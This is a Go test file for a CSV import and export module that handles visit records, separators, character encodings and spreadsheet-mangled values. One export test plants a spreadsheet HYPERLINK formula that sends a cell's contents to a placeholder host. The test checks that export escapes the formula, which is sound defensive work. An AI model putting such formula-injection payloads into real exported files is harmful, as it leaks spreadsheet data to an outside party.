package exchange_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/traditionalchinese"
	"golang.org/x/text/encoding/unicode"

	"visitprep/internal/exchange"
)

// TestTablesAsSpreadsheetsSaveThem reads the same visit from each.
func TestTablesAsSpreadsheetsSaveThem(t *testing.T) {
	const want = "A from 2040-01-15 to 2040-01-16"
	for _, c := range []struct{ name, data string }{
		{"commas", "kind,factory,purpose,first,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1\n"},
		{"semicolons, as in Germany", "kind;factory;purpose;first;last;channel\r\nvisit;A;first_visit;15.01.2040;16.01.2040;C0AAAAAAA1\r\n"},
		{"tabs", "kind\tfactory\tpurpose\tfirst\tlast\tchannel\nvisit\tA\tfirst_visit\t2040/1/15\t2040/1/16\tC0AAAAAAA1\n"},
		{"a separator in quotes beside the one that counts", "\"kind\";\"factory\";purpose;first;last;channel;agenda\nvisit;A;first_visit;2040-01-15;2040-01-16;C0AAAAAAA1;\"tour, then lunch; tea\"\n"},
		{"a separator that the first line names", "sep=;\r\nkind;factory;purpose;first;last;channel\r\nvisit;A;first_visit;2040-01-15;2040-01-16;C0AAAAAAA1\r\n"},
		{"and names in quotes", "\ufeff\"SEP=,\"\nkind,factory,purpose,first,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1\n"},
		{"and fills up with separators", "sep=;;;;;;\nkind;factory;purpose;first;last;channel\nvisit;A;first_visit;2040-01-15;2040-01-16;C0AAAAAAA1\n"},
		{"rows that were emptied", "kind,factory,purpose,first,last,channel\n,,,,,\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1\n,,,,,\n , ,,\u00a0,,\n,,,,,,,,\n"},
		{"a column that was emptied", "kind,factory,,purpose,first,last,channel,\nvisit,A,,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1,\n"},
		{"empty lines above", "\n,,,,,\n\nkind,factory,purpose,first,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1\n"},
		{"empty lines above, with semicolons", ";;;;;\nkind;factory;purpose;first;last;channel\nvisit;A;first_visit;2040-01-15;2040-01-16;C0AAAAAAA1\n"},
		{"line ends of an old Mac", "kind,factory,purpose,first,last,channel,agenda\rvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1,\"one\ntwo\"\r"},
		{"names of columns with spaces that are none", "\ufeff\ufeff\"Kind\u00a0\",factory ,\tpurpose,\u3000FIRST,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1\n"},
		{"a line that ends with separators", "kind,factory,purpose,first,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1,,,\n"},
		{"no line end at the end", "kind,factory,purpose,first,last,channel\nvisit,A,first_visit,2040-01-15,2040-01-16,C0AAAAAAA1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			contents, err := exchange.Read("a.csv", []byte(c.data), "T1", kinds, exchange.Recorded{})
			if err != nil {
				t.Fatal(err)
			}
			if got := inWords(contents); got != want {
				t.Errorf("it is %q, want %q", got, want)
			}
		})
	}
}

func TestMistakesInTables(t *testing.T) {
	const visit = "visit,A,first_visit,2040-01-15,C0AAAAAAA1"
	for _, c := range []struct {
		name, data string
		want       []string
	}{
		{"a column twice", "kind,factory,purpose,first,channel,owner,owner\n" + visit + ",U0AAAAAAA1,U0BBBBBBB2\n", []string{`a.csv:1: the column "owner" is there twice, in field 6 and field 7: delete one of them`}},
		{"a column twice in other letters", "kind,factory,purpose,first,channel,Owner, owner\n" + visit + "\n", []string{`a.csv:1: the column "owner" is there twice`}},
		{"something in a column without a name", "kind,factory,purpose,first,channel,,\n" + visit + ",,\n" + visit + ",,tea\n", []string{`a.csv:3: field 7 holds "tea", and line 1 names no column there: name the column, or empty it`}},
		{"more fields than columns, with semicolons", "kind;agenda\nvisit;tour; then lunch\n", []string{`a.csv:2: 3 fields for 2 columns: put fields with semicolons into quotes`}},
		{"no column for the kind", "factory,first\nA,2040-01-15\nB,2040-01-16\n", []string{`a.csv:1: there is no column "kind": add it, with visit or plan in each line`}},
		{"only empty lines", ",,,\n\n , \n", []string{`a.csv:1: the columns are not named`}},
		{"lines are counted from the one that names the separator", "sep=;\nkind;factory;purpose;first;channel\n;;;;\nvisit;A;party;2040-01-15;C0AAAAAAA1\n", []string{`a.csv:4: purpose: `}},
		{"and over line breaks in cells", "kind,factory,purpose,agenda,first,channel\nvisit,A,first_visit,\"one\ntwo\n\nthree\",2040-01-15,C0AAAAAAA1\nvisit,B,party,,2040-01-15,C0AAAAAAA1\n", []string{`a.csv:6: purpose: `}},
		{"and of an old Mac", "kind,factory,purpose,first,channel\rvisit,A,first_visit,2040-01-15,C0AAAAAAA1\rvisit,B,party,2040-01-15,C0AAAAAAA1\r", []string{`a.csv:3: purpose: `}},
		{"a quotation mark in a field", "kind,factory\nvisit,12\" pipe works\n", []string{`a.csv:2: the line cannot be read: put a field with quotation marks into quotes, and write each of its own twice: "a ""good"" one"`}},
		{"text that a spreadsheet spoilt", "kind,factory,city,contacts,purpose,first,channel\nvisit,A,4-Mar,8.61381E+12,first_visit,2040-01-15,C0AAAAAAA1\nvisit,#NAME?,3月4日,Mar-27,first_visit,2040-01-15,C0AAAAAAA1\n", []string{
			`a.csv:2: city: "4-Mar" looks like what a spreadsheet made of something else: write again what it was; if it is meant like that, put an apostrophe before it`,
			`a.csv:2: contacts: "8.61381E+12" looks like`, `a.csv:3: factory: "#NAME?" looks like`, `a.csv:3: city: "3月4日" looks like`, `a.csv:3: contacts: "Mar-27" looks like`}},
		{"a workbook under another name", "PK\x03\x04rest", []string{`a.csv: it is a workbook, not text: let its name end in .xlsx`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			contents, err := exchange.Read("a.csv", []byte(c.data), "T1", kinds, exchange.Recorded{})
			if err == nil {
				t.Fatalf("it was read as %q", inWords(contents))
			}
			got := strings.Split(err.Error(), "\n")
			if len(got) != len(c.want) || !slices.EqualFunc(got, c.want, strings.HasPrefix) {
				t.Errorf("the mistakes are\n%s\nwant\n%s", err, strings.Join(c.want, "\n"))
			}
		})
	}
	// Nothing below the line with the names is nothing to import, and no mistake.
	if c, err := exchange.Read("a.csv", []byte("kind,factory\r\n"), "T1", kinds, exchange.Recorded{}); err != nil || inWords(c) != "" {
		t.Errorf("a file with nothing below its first line is %q, %v", inWords(c), err)
	}
}

// A sample is a table with one name of a factory and one city, in Slack's ASCII otherwise.
func sample(t *testing.T, factory, city string, e encoding.Encoding) []byte {
	s, err := e.NewEncoder().String("kind,factory,city,purpose,first,channel,owner\r\nvisit," + factory + "," + city + ",first_visit,2040-01-15,C0AAAAAAA1,U0AAAAAAA1\r\n")
	if err != nil {
		t.Fatal(err)
	}
	return []byte(s)
}

func TestEncodings(t *testing.T) {
	for _, c := range []struct {
		name, factory, city string
		encoding            encoding.Encoding
		told                string // what is told of a guess
	}{
		{"UTF-8", "宁波光明金属制品有限公司", "宁波", unicode.UTF8, ""},
		{"UTF-8 with a mark", "宁波光明金属制品有限公司", "München", unicode.UTF8BOM, ""},
		{"UTF-16 with a mark, the low byte first", "宁波光明金属制品有限公司", "宁波", unicode.UTF16(unicode.LittleEndian, unicode.UseBOM), ""},
		{"UTF-16 with a mark, the high byte first", "宁波光明金属制品有限公司", "宁波", unicode.UTF16(unicode.BigEndian, unicode.UseBOM), ""},
		{"UTF-16 without a mark, the low byte first", "宁波光明金属制品有限公司", "宁波", unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM), ""},
		{"UTF-16 without a mark, the high byte first", "宁波光明金属制品有限公司", "宁波", unicode.UTF16(unicode.BigEndian, unicode.IgnoreBOM), ""},
		{"GB18030", "宁波光明金属制品有限公司", "宁波", simplifiedchinese.GB18030, "GB18030 (Chinese), for example \"宁波光明金属制品有限公司\""},
		{"GB18030 of few characters", "Alpha Works", "宁波", simplifiedchinese.GB18030, "\"宁波\""},
		{"GB18030 with rare characters", "喆鑫精密模具厂", "东莞", simplifiedchinese.GB18030, "\"喆鑫精密模具厂\""},
		{"GBK with the characters of Taiwan", "東莞市鴻達塑膠製品有限公司", "東莞", simplifiedchinese.GBK, "GB18030"},
		{"Russian in UTF-8", "Завод точной механики", "Москва", unicode.UTF8, ""},
		{"Greek in UTF-8", "Εργοστάσιο ακριβείας", "Αθήνα", unicode.UTF8, ""},
		{"GB18030 with letters of Europe", "Müller 精密模具（东莞）有限公司", "Łódź", simplifiedchinese.GB18030, "GB18030"},
		{"GBK with signs", "（佛山）玻璃厂", "佛山", simplifiedchinese.GBK, "GB18030"},
		{"Windows-1252", "Müller Präzision", "München", charmap.Windows1252, "Windows-1252 (Western European), for example \"Müller\""},
		{"Windows-1252 of one letter", "M\u00fcnchen", "Koeln", charmap.Windows1252, "\"München\""},
		{"Windows-1252 with two letters together", "Größenmaß", "Citroën", charmap.Windows1252, "\"Größenmaß\""},
		{"Windows-1252 with quotation marks", "“L’Été”", "Besançon", charmap.Windows1252, "Windows-1252"},
		{"Windows-1252 in capitals", "GROSSE MÜHLE", "KÖLN", charmap.Windows1252, "\"MÜHLE\""},
	} {
		t.Run(c.name, func(t *testing.T) {
			contents, err := exchange.Read("a.csv", sample(t, c.factory, c.city, c.encoding), "T1", kinds, exchange.Recorded{})
			if err != nil {
				t.Fatal(err)
			}
			if f := contents.Visits[0].Factory; f.Name != c.factory || f.City != c.city {
				t.Errorf("it is %q in %q, want %q in %q", f.Name, f.City, c.factory, c.city)
			}
			if got := contents.Doubts.Error(); (got == "") != (c.told == "") || !strings.Contains(got, c.told) {
				t.Errorf("it tells %q, want %q", got, c.told)
			}
		})
	}
	const refused = `a.csv: its letters are in an encoding that cannot be told for certain: save it again as "CSV UTF-8", or as .xlsx`
	for _, c := range []struct {
		name, factory, city string
		encoding            encoding.Encoding
	}{
		{"Polish", "Łódzkie Zakłady", "Łódź", charmap.Windows1250},
		{"Russian", "Завод Точность", "Москва", charmap.Windows1251},
		{"Japanese", "東京精密株式会社", "とうきょう", japanese.ShiftJIS},
		{"Japanese of a Unix", "トウキョウ精密", "とうきょう", japanese.EUCJP},
		{"Korean", "서울정밀공업주식회사", "서울특별시", korean.EUCKR},
		{"Chinese of Taiwan", "臺灣精密工業股份有限公司", "臺北", traditionalchinese.Big5},
		{"one Korean word", "Works", "부산", korean.EUCKR},
		{"one Japanese word", "Works", "大阪", japanese.EUCJP},
		{"one rare character", "Works", "茶", simplifiedchinese.GB18030},
		{"Chinese that is valid UTF-8", "谢谢", "医院", simplifiedchinese.GB18030},
		{"and of letters that no language has together", "Works", "医院", simplifiedchinese.GB18030},
		{"an old Mac's", "Müller Präzision", "München", charmap.Macintosh},
		{"DOS'", "Müller Präzision", "München", charmap.CodePage850},
	} {
		t.Run(c.name, func(t *testing.T) {
			contents, err := exchange.Read("a.csv", sample(t, c.factory, c.city, c.encoding), "T1", kinds, exchange.Recorded{})
			if err == nil {
				t.Fatalf("it is read as %q in %q", contents.Visits[0].Factory.Name, contents.Visits[0].Factory.City)
			}
			if err.Error() != refused {
				t.Errorf("it says %v", err)
			}
		})
	}
	// A file in UTF-8 that was cut in the middle of a character is no Chinese, and neither is one of two encodings.
	whole := sample(t, "宁波光明金属制品有限公司", "宁波", unicode.UTF8)
	for name, data := range map[string][]byte{"cut": whole[:60], "marked": append([]byte("\ufeff"), sample(t, "Müller", "München", charmap.Windows1252)...), "two": append(slices.Clone(whole), sample(t, "宁波光明金属制品有限公司", "宁波", simplifiedchinese.GB18030)...)} {
		if c, err := exchange.Read("a.csv", data, "T1", kinds, exchange.Recorded{}); err == nil || err.Error() != refused {
			t.Errorf("%s: %q, %v", name, inWords(c), err)
		}
	}
}

func TestSpoiltTextThatIsMeant(t *testing.T) {
	c, err := exchange.Read("a.csv", []byte("kind,factory,city,agenda,purpose,first,channel\nvisit,'4-Mar,'#NAME?,4-Mar and 1.5E+1,first_visit,2040-01-15,C0AAAAAAA1\n"), "T1", kinds, exchange.Recorded{})
	if err != nil || c.Visits[0].Factory.Name != "4-Mar" || c.Visits[0].Factory.City != "#NAME?" || c.Visits[0].Agenda != "4-Mar and 1.5E+1" {
		t.Errorf("it is %+v, %v", c.Visits, err)
	}
}

func TestALineInWhichNothingCanBeSeenIsEmpty(t *testing.T) {
	c, err := exchange.Read("a.csv", []byte("kind,factory,purpose,first,last,channel\n \u200b,\u3000,,,,\nvisit,A,first_visit,2040-01-15,,C0AAAAAAA1\n\ufeff,,,\u00a0,,\n"), "T1", kinds, exchange.Recorded{})
	if err != nil || len(c.Visits) != 1 {
		t.Errorf("it is %+v, %v", c.Visits, err)
	}
}

func TestExportedTable(t *testing.T) {
	whole, err := exchange.Read("team.yaml", []byte(wholeYAML), "T1", kinds, exchange.Recorded{})
	if err != nil {
		t.Fatal(err)
	}
	whole.Visits[0].Factory.Name = `=HYPERLINK("http://x.example/?"&A1,"open")`
	whole.Visits[0].Factory.Contacts = "+8657455500188"
	whole.Visits[0].Factory.City = "'s-Hertogenbosch"
	whole.Visits[0].Agenda = "- tour\n- lunch"
	whole.Plans[0].Factory.Name = "007"
	var b strings.Builder
	if err := exchange.Write(&b, "csv", whole.Contents); err != nil {
		t.Fatal(err)
	}
	csv := b.String()
	if !strings.HasPrefix(csv, "\ufeffkind,") {
		t.Errorf("it begins with %q, want the mark of UTF-8", csv[:10])
	}
	for _, want := range []string{`"'=HYPERLINK(""http://x`, "'+8657455500188", ",'s-Hertogenbosch,", "\"'- tour\n- lunch\"", ",'007,", ",2040-03-15,2040-03-16,", ",14; 3,"} {
		if !strings.Contains(csv, want) {
			t.Errorf("it has no %s:\n%s", want, csv)
		}
	}
	again, err := exchange.Read("a.csv", []byte(csv), "T1", kinds, exchange.Recorded{})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := again.Visits[0], whole.Visits[0]; got.Factory != want.Factory || got.Agenda != want.Agenda || again.Plans[0].Factory != whole.Plans[0].Factory {
		t.Errorf("it is read as %+v, want %+v", got, want)
	}
}
